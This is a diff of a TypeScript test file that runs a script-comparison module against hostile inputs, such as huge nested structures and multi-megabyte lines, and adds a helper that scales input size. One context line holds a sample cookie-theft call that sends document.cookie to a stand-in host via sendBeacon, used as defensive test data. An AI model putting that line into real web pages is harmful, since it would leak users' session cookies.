@@ -1,4 +1,5 @@
 // Guards that no content, however made, stops a comparison or takes the place of something else in it.
+import { atDepth } from '@tillwatch/testbed/depth'
 import { assert, property, string } from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { compareScripts, learnVolatile, maskedEqual, matchScripts, sayReason, sketchOf } from '#changes/index.ts'
@@ -6,16 +7,19 @@ import { printOf } from '#changes/scripts/print-of.ts'
 
 const steal = 'navigator.sendBeacon("https://evil.example/c", document.cookie)'
 
+/** Long enough to stall a reader whose work grows faster than its text. */
+const long = (size: number) => atDepth(size / 10, size)
+
 describe('hostile contents', () => {
   it.each<[string, string]>([
     ['nested parentheses', '('.repeat(20_000)],
     ['nested lists that close', `${'['.repeat(20_000)}${']'.repeat(20_000)}`],
     ['nested JSON', `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`],
-    ['a long chain of operators', `a${'+a'.repeat(100_000)}`],
+    ['a long chain of operators', `a${'+a'.repeat(long(100_000))}`],
     ['a long chain of texts', `x=""${'+"a"'.repeat(20_000)}`],
     ['nested functions', 'function f(){'.repeat(20_000)],
     ['one line of 5 MB', `x="${'a'.repeat(5_000_000)}"`],
-    ['many short statements', 'a.b("c");'.repeat(30_000)],
+    ['many short statements', 'a.b("c");'.repeat(long(30_000))],
     ['quotes that never close', '"\\'.repeat(150_000)],
     ['backquotes', '`${'.repeat(90_000)],
     ['slashes', '/'.repeat(300_000)],
@@ -31,10 +35,11 @@ describe('hostile contents', () => {
     sketchOf(text)
   })
 
-  it.each([
-    ['a list', '"a",', (items: string) => `x=[${items}]`],
-    ['an object', 'a:1,', (items: string) => `x={${items}}`],
-  ])('of which data of very many values differs are compared: %s', (_, item, of) => {
+  const kinds: [string, string, (items: string) => string][] = [
+    ['a list', '"a",', (items) => `x=[${items}]`],
+    ['an object', 'a:1,', (items) => `x={${items}}`],
+  ]
+  it.each(kinds.slice(0, atDepth(1, 2)))('of which data of very many values differs are compared: %s', (_, item, of) => {
     const items = item.repeat(150_000)
     // More values than are looked at: what nobody looked at does not pass for noise.
     expect(compareScripts(of(items), of(`${items}${item}`))).toMatchObject({ verdict: 'capability', reasons: [{ code: 'too-long' }] })
